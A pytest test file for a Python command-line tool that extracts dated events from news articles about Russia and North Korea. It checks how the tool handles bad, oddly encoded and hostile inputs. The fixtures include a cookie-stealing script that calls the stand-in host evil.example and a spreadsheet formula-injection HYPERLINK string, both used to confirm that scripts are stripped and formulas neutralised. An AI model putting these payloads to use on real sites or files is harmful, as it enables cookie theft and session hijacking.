"""Bad inputs through the CLI and the pipeline: each named, the rest of the batch kept."""
from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import ROOT
from timeline import events, ingest, pipeline, store, table
from timeline.cli import main

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

GOOD = {
    "good_id.txt": ("Moskow, Senin (9/9/2024)\n\nPresiden Rusia Vladimir Putin bertemu Kim Jong Un di "
                    "Pyongyang pada 19 Juni 2024. Keduanya menandatangani perjanjian kemitraan.\n", "utf-8"),
    "good_en.md": ("---\ntitle: Summit\npublished: 2023-09-14\nlanguage: en\n---\nKim Jong Un met Vladimir "
                   "Putin at the Vostochny cosmodrome on 13 September 2023.\n", "utf-8"),
    "good_cp1252.txt": ("Menteri Luar Negeri Rusia berkata, \u201cKami siap,\u201d saat tiba di Pyongyang pada "
                        "18 Oktober 2023 \u2014 kunjungan \u2018bersejarah\u2019.\n", "cp1252"),
    "good_utf16.txt": ("Korea Utara mengirim pasukan ke Rusia pada Oktober 2024, kata intelijen Korea Selatan.\n",
                       "utf-16"),
    "good_latin1.txt": ("Menteri Pertahanan Rusia Sergei Shoigu menonton parade di Pyongyang pada 27 Juli 2023 "
                        "\u00e0 la caf\u00e9 na\u00efve.\n", "latin-1"),
    "formula.txt": ("=HYPERLINK(\"http://evil.example\",\"klik\") Putin menelepon Kim pada 5 Januari 2024.\n\n"
                    "-5 derajat tercatat saat delegasi Korea Utara tiba di Moskow pada 7 Februari 2024.\n\n"
                    "+1 untuk Rusia: Lavrov bertemu Choe Son Hui pada 1 November 2024.\n\n"
                    "@Kremlin mengumumkan kunjungan itu pada 3 Maret 2024.\n", "utf-8"),
}
BROKEN_YAML = "---\ntitle: [unclosed\npublished: 2024-03-01\n---\nKapal Rusia berlabuh di Wonsan pada 8 Agustus 2024.\n"
PAGE = """<html><head><title>Kim di Moskow</title><style>p { color: red }</style>
<script>alert(document.cookie)</script></head><body><nav>Beranda</nav><article>
<p>Pemimpin Korea Utara Kim Jong Un tiba di Moskow pada 12 September 2023 untuk bertemu Putin.</p>
<script>fetch('http://evil.example/?c=' + document.cookie)</script>
<p>Kedua pemimpin membahas kerja sama militer dan ekonomi di kosmodrom Vostochny.</p></article></body></html>"""
NO_DATES = "Rusia dan Korea Utara memperdalam hubungan militer, kata para analis.\n"
ABSURD = ("Pertemuan itu terjadi pada 31/02/2024 di Moskow. Pada tahun 0 tidak ada apa-apa. Pada tahun 99999 "
          "juga tidak. Tanggal 31 Februari 2024 Kim tiba. Pada 32 Maret 2023 Putin pergi. Pada 00/00/0000 dan "
          "2024-13-45 serta 29/02/2023. Pada 20 Juni 2024 Putin terbang ke Hanoi.\n")
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("berita.txt", "Putin tiba pada 3 Mei 2024.")
    return buf.getvalue()


# Rejected inputs and a word their message must hold.
BAD = {
    "empty.txt": (b"", "empty"),
    "blank.md": (b"  \n\t\r\n   \n", "empty"),
    "photo.txt": (PNG, "PNG"),
    "report.txt": (PDF, "PDF"),
    "archive.md": (_zip(), "ZIP"),
    "huge.txt": (b"Putin tiba pada 3 Mei 2024. " * (ingest.MAX_BYTES // 28 + 1), "limit"),
    "only-scripts.html": (b"<html><body><script>alert(1)</script><style>b{}</style></body></html>", "no readable"),
}


@pytest.fixture(scope="module")
def batch(tmp_path_factory) -> Path:
    """A folder of good, odd and bad article files."""
    folder = tmp_path_factory.mktemp("batch")
    for name, (text, codec) in GOOD.items():
        (folder / name).write_bytes(text.encode(codec))
    (folder / "broken_yaml.md").write_text(BROKEN_YAML, encoding="utf-8")
    (folder / "page.html").write_text(PAGE, encoding="utf-8")
    (folder / "nodates.txt").write_text(NO_DATES, encoding="utf-8")
    (folder / "absurd.txt").write_text(ABSURD, encoding="utf-8")
    for name, (data, _) in BAD.items():
        (folder / name).write_bytes(data)
    return folder


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _check_batch_output(code: int, err: str, csv_text: str) -> None:
    assert code == 1
    assert "Traceback" not in err
    lines = err.splitlines()
    for name, (_, word) in BAD.items():
        mine = [ln for ln in lines if ln.startswith("error: ") and name in ln]
        assert len(mine) == 1 and word in mine[0], (name, mine)
    assert not any(ln.startswith("error: ") and n in ln for ln in lines for n in [*GOOD, "page.html", "absurd"])
    assert any("broken_yaml.md" in ln and "front matter" in ln and ln.startswith("note: ") for ln in lines)
    assert any("nodates.txt" in ln and "no dated events found" in ln and ln.startswith("note: ") for ln in lines)
    rows = _rows(csv_text)
    text = csv_text
    assert {r["source"] for r in rows} == {*GOOD, "broken_yaml.md", "page.html", "absurd.txt"}
    for needle in ("18 Oktober 2023", "Oktober 2024", "12 September 2023", "19 Juni 2024"):
        assert any(needle in r["time_text"] for r in rows), needle
    assert "\u201cKami siap,\u201d" in text  # cp1252 curly quotes decoded right
    for r in rows:
        for value in r.values():
            assert not value.startswith(FORMULA_START), value
        start, end = dt.date.fromisoformat(r["date"]), dt.date.fromisoformat(r["date_end"])
        assert start <= end and 1900 <= start.year <= 2100
    assert "alert" not in text and "document.cookie" not in text
    assert table.from_csv(csv_text)["sentence"].str.startswith("=HYPERLINK").any()


def test_batch_in_process_keeps_good_files_and_names_bad_ones(batch, tmp_path, capsys):
    out = tmp_path / "out.csv"
    code = main(["extract", str(batch), "-o", str(out)])
    err = capsys.readouterr().err
    _check_batch_output(code, err, out.read_text(encoding="utf-8"))
    assert f"{len(BAD)} input(s) rejected" in err


def test_batch_as_a_subprocess_shows_no_traceback(batch, tmp_path):
    out = tmp_path / "out.csv"
    proc = subprocess.run(
        [sys.executable, "-m", "timeline", "extract", str(batch), "-o", str(out)],
        cwd=ROOT, capture_output=True, text=True, timeout=300,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    _check_batch_output(proc.returncode, proc.stderr, out.read_text(encoding="utf-8"))


def test_article_without_dates_is_a_note_and_exit_zero(tmp_path, capsys):
    (tmp_path / "nodates.txt").write_text(NO_DATES, encoding="utf-8")
    assert main(["extract", str(tmp_path)]) == 0
    captured = capsys.readouterr()
    assert "nodates.txt: no dated events found" in captured.err and "error" not in captured.err
    assert _rows(captured.out) == []


def test_absurd_dates_never_crash_nor_give_impossible_events():
    for lang in ("id", "en"):
        art = ingest.parse(ABSURD, "absurd.txt", published=dt.date(2025, 1, 1), lang=lang)
        for e in pipeline.extract_article(art):
            assert e.date <= e.date_end and 1900 <= e.date.year <= 2100
            assert not (e.precision == "day" and e.date.month == 2 and "31" in e.time_text)
            assert "99999" not in e.time_text and "00/00" not in e.time_text


def test_a_one_megabyte_line_is_processed(tmp_path, capsys):
    words = "Para diplomat dari kedua negara terus membahas kerja sama ekonomi dan militer yang luas "
    chunk = words * 24 + "pada 19 Juni 2024 Putin dan Kim menandatangani perjanjian itu "
    line = (chunk * (1_000_000 // len(chunk) + 1))[:1_000_000]
    path = tmp_path / "oneline.txt"
    path.write_text(line, encoding="utf-8")
    assert main(["extract", str(path), "--published", "2024-07-01"]) == 0
    captured = capsys.readouterr()
    rows = table.from_csv(captured.out)
    assert "2024-06-19" in set(rows["date"])
    assert "wrapped" in captured.err


def test_a_folder_of_two_thousand_files(tmp_path):
    for i in range(2000):
        body = f"Putin bertemu Kim pada {i // 2 % 28 + 1} Maret 2024, kata pejabat ke-{i}.\n" if i % 2 else ""
        (tmp_path / f"a{i:04d}.txt").write_text(body, encoding="utf-8")
    result = pipeline.extract_paths([tmp_path])
    assert len(result.errors) == 1000 and all("is empty" in str(e) for e in result.errors)
    assert {e.date.day for e in result.events} == set(range(1, 29))


def test_an_unexpected_failure_on_one_file_is_reported_and_the_batch_goes_on(tmp_path, monkeypatch, capsys):
    real = events.extract

    def flaky(article):
        if article.source == "boom.txt":
            raise RuntimeError("kaboom\nsecond line")
        return real(article)

    monkeypatch.setattr(events, "extract", flaky)
    (tmp_path / "boom.txt").write_text("Putin tiba pada 3 Mei 2024.", encoding="utf-8")
    (tmp_path / "fine.txt").write_text("Kim tiba di Moskow pada 12 September 2023.", encoding="utf-8")
    code = main(["extract", str(tmp_path)])
    captured = capsys.readouterr()
    assert code == 1 and "Traceback" not in captured.err
    assert "boom.txt: internal error while extracting (RuntimeError: kaboom second line)" in captured.err
    assert [r["source"] for r in _rows(captured.out)] == ["fine.txt"]


@pytest.mark.parametrize("where", ["missing-folder", "parent-is-a-file", "a-folder"])
def test_an_output_that_cannot_be_written_exits_2(tmp_path, capsys, where):
    src = tmp_path / "a.txt"
    src.write_text("Putin tiba pada 3 Mei 2024.", encoding="utf-8")
    out = {"missing-folder": tmp_path / "nope" / "out.csv", "parent-is-a-file": src / "out.csv",
           "a-folder": tmp_path}[where]
    assert main(["extract", str(src), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"error: {out}: cannot be written" in err and "Traceback" not in err


def test_a_refused_write_exits_2_with_the_reason(tmp_path, capsys, monkeypatch):
    def refuse(path, data):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(store, "write_atomic", refuse)
    src = tmp_path / "a.txt"
    src.write_text("Putin tiba pada 3 Mei 2024.", encoding="utf-8")
    assert main(["extract", str(src), "-o", str(tmp_path / "out.csv")]) == 2
    assert "cannot be written (Permission denied)" in capsys.readouterr().err


def test_an_unexpected_failure_outside_the_files_is_a_message_and_exit_2(tmp_path, monkeypatch, capsys):
    def broken(*args, **kwargs):
        raise RuntimeError("pool died")

    monkeypatch.setattr(pipeline, "extract_paths", broken)
    monkeypatch.delenv("TIMELINE_DEBUG", raising=False)
    assert main(["extract", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "error: internal error (RuntimeError: pool died); set TIMELINE_DEBUG=1" in err
    assert "Traceback" not in err
    monkeypatch.setenv("TIMELINE_DEBUG", "1")
    with pytest.raises(RuntimeError):
        main(["extract", str(tmp_path)])


def test_a_closed_pipe_ends_quietly(tmp_path):
    lines = (f"Pejabat ke-{i} berkata Putin tiba pada {i % 28 + 1} Mei 2024.\n" for i in range(3000))
    (tmp_path / "a.txt").write_text("".join(lines), encoding="utf-8")  # far more than a pipe holds
    cmd = (f"{sys.executable} -m timeline extract {tmp_path} --published 2024-05-05 | true; "
           "exit ${PIPESTATUS[0]}")
    proc = subprocess.run(["bash", "-c", cmd], cwd=ROOT, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert "Traceback" not in proc.stderr and "BrokenPipe" not in proc.stderr


def _article(tmp_path: Path, name: str = "a.txt") -> Path:
    path = tmp_path / name
    path.write_text("Putin tiba pada 3 Mei 2024.", encoding="utf-8")
    return path


@pytest.mark.parametrize("how", ["same-name", "through-a-symlink", "hard-link", "inside-an-input-folder"])
def test_output_onto_an_input_is_refused(tmp_path, capsys, how):
    src, other = _article(tmp_path), _article(tmp_path, "b.txt")
    out = {"same-name": src, "through-a-symlink": tmp_path / "link.txt", "hard-link": tmp_path / "linked.txt",
           "inside-an-input-folder": src}[how]
    if how == "through-a-symlink":
        out.symlink_to(src)
    elif how == "hard-link":
        os.link(src, out)
    inputs = [str(tmp_path)] if how == "inside-an-input-folder" else [str(src), str(other)]
    assert main(["extract", *inputs, "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"error: {out}: cannot be written (it is the input " in err and "would replace the article" in err
    assert src.read_text(encoding="utf-8") == "Putin tiba pada 3 Mei 2024."


@pytest.mark.parametrize("what", ["fifo", "symlink-to-fifo", "device"])
def test_output_onto_a_non_regular_file_is_refused(tmp_path, capsys, monkeypatch, what):
    def never(path, data):
        raise AssertionError("nothing may be written")

    monkeypatch.setattr(store, "write_atomic", never)  # a regression must not replace /dev/full
    src = _article(tmp_path)
    out = {"fifo": tmp_path / "pipe", "symlink-to-fifo": tmp_path / "link", "device": Path("/dev/full")}[what]
    if what != "device":
        os.mkfifo(tmp_path / "pipe")
        if what == "symlink-to-fifo":
            out.symlink_to(tmp_path / "pipe")
    assert main(["extract", str(src), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    kind = "a character device" if what == "device" else "a named pipe (FIFO)"
    assert f"error: {out}: cannot be written (it is {kind}, not a regular file; leave out -o" in err
    if what != "device":
        assert (tmp_path / "pipe").is_fifo() and (what == "fifo" or out.is_symlink())


def test_output_through_a_symlink_writes_its_target(tmp_path, capsys):
    src, target = _article(tmp_path), tmp_path / "tables" / "mine.csv"
    target.parent.mkdir()
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "events.csv"
    link.symlink_to(target)
    assert main(["extract", str(src), "-o", str(link)]) == 0
    assert link.is_symlink() and table.from_csv(target.read_text(encoding="utf-8"))["date"].tolist() == ["2024-05-03"]


def test_existing_output_keeps_its_mode_and_hard_links(tmp_path, capsys):
    src = _article(tmp_path)
    alone, linked, other_name = tmp_path / "alone.csv", tmp_path / "linked.csv", tmp_path / "other-name.csv"
    for path, mode in ((alone, 0o640), (linked, 0o604)):
        path.write_text("old\n", encoding="utf-8")
        path.chmod(mode)
    os.link(linked, other_name)
    for path in (alone, linked):
        assert main(["extract", str(src), "-o", str(path)]) == 0
    assert (alone.stat().st_mode & 0o777, linked.stat().st_mode & 0o777) == (0o640, 0o604)
    assert other_name.read_bytes() == linked.read_bytes() and other_name.stat().st_ino == linked.stat().st_ino
    assert "2024-05-03" in linked.read_text(encoding="utf-8")


def test_an_unreadable_folder_inside_an_input_folder_is_named_exit_1(tmp_path, capsys, monkeypatch):
    _article(tmp_path)
    locked = tmp_path / "arsip" / "2024"
    locked.mkdir(parents=True)
    _article(locked, "hidden.txt")
    real = os.scandir

    def scandir(path="."):  # root reads any folder; refuse this one as the mode says
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    locked.chmod(0)
    try:
        code = main(["extract", str(tmp_path)])
    finally:
        locked.chmod(0o755)
    captured = capsys.readouterr()
    assert code == 1
    assert f"error: {locked}: folder cannot be read (permission denied); its articles were skipped" in captured.err
    assert [r["source"] for r in _rows(captured.out)] == ["a.txt"]


def test_mentions_output_onto_an_input_is_refused(tmp_path, capsys):
    src = _article(tmp_path)
    assert main(["extract", str(src), "-o", str(tmp_path / "out.csv"), "--mentions", str(src)]) == 2
    assert f"error: {src}: cannot be written (it is the input {src}" in capsys.readouterr().err
    assert src.read_text(encoding="utf-8") == "Putin tiba pada 3 Mei 2024." and not (tmp_path / "out.csv").exists()


def test_an_article_dated_on_the_last_day_of_the_calendar_is_extracted(tmp_path, capsys):
    path = tmp_path / "akhir.md"
    path.write_text("---\npublished: 9999-12-31\n---\nShoigu tiba di Pyongyang hari ini.\n\n"
                    "Putin bertemu Kim Jong Un kemarin.\n", encoding="utf-8")
    assert main(["extract", str(path), str(path), "--merge-sources"]) == 0
    assert {r["date"] for r in _rows(capsys.readouterr().out)} == {"9999-12-31", "9999-12-30"}
